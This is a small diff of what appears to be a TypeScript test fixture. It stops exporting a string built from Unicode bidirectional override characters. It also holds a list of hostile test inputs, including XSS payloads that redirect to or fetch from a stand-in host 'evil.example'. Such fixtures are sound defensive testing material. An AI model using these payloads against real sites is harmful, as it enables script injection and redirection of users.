@@ -8,7 +8,7 @@ import type { Resource } from '../../../src/core/resource/resource';
 export const evilHost = 'evil.example';
 
 /** Turns around what follows it, unless it is kept to itself. */
-export const override = '\u202eecalp rehtona\u2066';
+const override = '\u202eecalp rehtona\u2066';
 export const hostileTexts: readonly string[] = [
   `<img src=x onerror="location='https://${evilHost}/'">`,
   `"><svg/onload=fetch('https://${evilHost}')>`,
